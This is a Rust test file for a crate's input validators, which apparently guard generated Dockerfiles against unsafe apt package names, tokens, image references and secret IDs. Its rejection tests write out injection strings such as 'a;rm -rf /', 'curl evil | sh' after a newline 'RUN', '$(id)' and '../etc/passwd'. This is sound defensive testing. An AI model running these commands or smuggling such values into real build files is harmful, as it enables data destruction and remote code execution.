use kiln::sanitize::{validate_apt_package, validate_image_ref, validate_secret_id, validate_token};
use kiln::Error;

#[test]
fn accepts_real_apt_packages() {
    for value in [
        "ffmpeg",
        "libpq-dev",
        "g++",
        "libstdc++6",
        "curl",
        "postgresql-client-16",
        "python3:arm64",
        "nginx=1.24.0-1",
    ] {
        assert!(validate_apt_package(value).is_ok(), "{value} should be allowed");
    }
}

#[test]
fn rejects_dangerous_apt_packages() {
    for value in ["", "-rf", "a b", "a;rm -rf /", "a|b", "a$(id)", "a\nRUN x", "../x"] {
        assert!(validate_apt_package(value).is_err(), "{value:?} must be rejected");
    }
}

#[test]
fn accepts_real_binary_names_and_entrypoints() {
    for value in ["app", "my-app", "my_app", "web.server", "dist/main.js", "bin/web"] {
        assert!(validate_token("name", value).is_ok(), "{value} should be allowed");
    }
}

#[test]
fn rejects_shell_metacharacters() {
    for value in ["app; rm -rf /", "app && curl evil | sh", "a|b", "a`id`", "a$(id)", "a b", "app;curl$IFS"] {
        assert!(validate_token("name", value).is_err(), "{value:?} must be rejected");
    }
}

#[test]
fn rejects_newline_dockerfile_break() {
    assert!(validate_token("name", "x\nRUN curl evil | sh").is_err());
}

#[test]
fn rejects_empty_leading_dash_and_traversal() {
    assert!(validate_token("name", "").is_err());
    assert!(validate_token("name", "-flag").is_err());
    assert!(validate_token("name", "../etc/passwd").is_err());
}

#[test]
fn unsafe_value_error_names_field_and_value() {
    match validate_token("CMake target", "a b") {
        Err(Error::UnsafeValue { field, value }) => {
            assert_eq!(field, "CMake target");
            assert_eq!(value, "a b");
        }
        other => panic!("unexpected {other:?}"),
    }
    match validate_apt_package("x;y") {
        Err(Error::UnsafeValue { field, value }) => {
            assert_eq!(field, "apt package");
            assert_eq!(value, "x;y");
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn image_refs_and_secret_ids() {
    assert!(validate_image_ref("gcr.io/distroless/base-debian12").is_ok());
    assert!(validate_image_ref("golang:1.23@sha256:abc").is_ok());
    assert!(validate_image_ref("img\nRUN curl evil | sh").is_err());
    assert!(validate_image_ref("-img").is_err());
    assert!(validate_image_ref("").is_err());
    assert!(validate_secret_id("NPM_TOKEN").is_ok());
    assert!(validate_secret_id("a,src=/etc/passwd").is_err());
    assert!(validate_secret_id("a=b").is_err());
    match validate_image_ref("a b") {
        Err(Error::UnsafeValue { field, .. }) => assert_eq!(field, "base image"),
        other => panic!("unexpected {other:?}"),
    }
    match validate_secret_id("a b") {
        Err(Error::UnsafeValue { field, .. }) => assert_eq!(field, "secret id"),
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn apt_packages_accept_every_token_character() {
    assert!(validate_apt_package("pkg/bookworm-backports").is_ok());
    for value in ["dist/main.js", "bin/web", "my_app", "web.server"] {
        assert!(validate_token("name", value).is_ok());
        assert!(validate_apt_package(value).is_ok(), "{value} should be allowed");
    }
}
